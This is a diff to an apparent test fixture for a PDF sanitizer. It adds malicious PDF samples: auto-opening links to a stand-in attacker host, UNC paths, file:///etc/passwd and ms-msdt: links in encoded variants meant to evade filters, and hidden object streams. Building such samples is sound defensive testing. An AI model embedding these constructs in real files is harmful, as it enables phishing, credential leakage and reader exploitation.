@@ -153,6 +153,27 @@ export function makeBadPdfs(): BadFiles {
     'a PDF with a film': active(makePdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
     'a PDF that plays': acting('<< /S /Rendition /OP 0 >>'),
     'a PDF that opens another in it': acting('<< /S /GoToE /T << /R /C >> >>'),
+    'a PDF that opens another beside it': acting('<< /S /GoToR /F (next.pdf) /D [0 /Fit] >>'),
+    'a PDF that opens a page of the web by itself': acting('<< /S /URI /URI (https://evil.example) >>'),
+    'a PDF that opens a page of the web right away': active(
+      makePdf({ catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
+    ),
+    'a PDF that opens a page of the web after another action': acting('<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>'),
+    'a PDF that does something when its page is shown': active(
+      makePdf({ catalogue: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
+    ),
+    'a PDF of compressed objects that opens a page of the web by itself': active(
+      makeCompressedPdf('/OpenAction 2 0 R', '/A << /S /URI /URI (https://evil.example) >>'),
+    ),
+    ...Object.fromEntries(
+      FOREIGN_LINKS.map((link) => [
+        `a PDF with a link to ${link}`,
+        active(makePdf({ objects: [`<< /Subtype /Link /A << /S /URI /URI ${link} >> >>`, '(file:///etc/passwd)'] })),
+      ]),
+    ),
+    'a PDF with a stream of another computer': active(
+      makePdf({ objects: [['/F (\\\\\\\\evil.example\\\\a)', latin1('x')]] }),
+    ),
     'a PDF that sends a form': acting('<< /S /SubmitForm /F (https://evil.example) >>'),
     'a PDF that reads a file': acting('<< /S /ImportData /F (c.fdf) >>'),
     'a PDF with a form of XML': active(makePdf({ catalogue: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] })),
@@ -176,6 +197,28 @@ export function makeBadPdfs(): BadFiles {
     ),
   }
 }
+
+/** As they stand in the file: strings escape what they like, and come in hexadecimal and in Unicode. */
+const FOREIGN_LINKS = [
+  '(file:///etc/passwd)',
+  '( FILE:///etc/passwd)',
+  String.raw`(\146ile:///etc/passwd)`,
+  '(fi\\\nle:///etc/passwd)',
+  String.raw`(\\\\evil.example\\a)`,
+  String.raw`(\134\134evil.example\\a)`,
+  '(//evil.example/a)',
+  '(/\\\\evil.example/a)',
+  '(c:/windows/a.exe)',
+  '(ms-msdt:/id)',
+  '(javascript:alert\\(1\\))',
+  '<66696c653a2f2f2f>',
+  '<66 69\n6c65 3a2f2f2f>',
+  '<feff00660069006c0065003a002f>',
+  '<5c5c6576696c2e6578616d706c65>',
+  '6 0 R',
+  '%\n(file:///etc/passwd)',
+  '<< /Base (file:///) >>',
+]
 
 /** A script in a stream of objects that readers unpack and a sieve might not. */
 function hiddenObjects(hex: Buffer): BadFiles {
@@ -203,6 +246,12 @@ function hiddenObjects(hex: Buffer): BadFiles {
     ),
     'a PDF with objects that call themselves nothing': hidden('/Type 9 0 R /Filter /ASCIIHexDecode', hex),
     'a PDF with objects in other words': hidden('/Type /ObjStm /F /AHx', hex),
+    'a PDF with objects behind half a string': active(
+      makePdf({ objects: ['( ', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
+    ),
+    'a PDF with objects behind a bracket in a comment': active(
+      makePdf({ objects: ['<< >> % (\n', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
+    ),
     'a PDF with a space behind the word stream': active(
       latin1(
         makePdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', spaced]] })
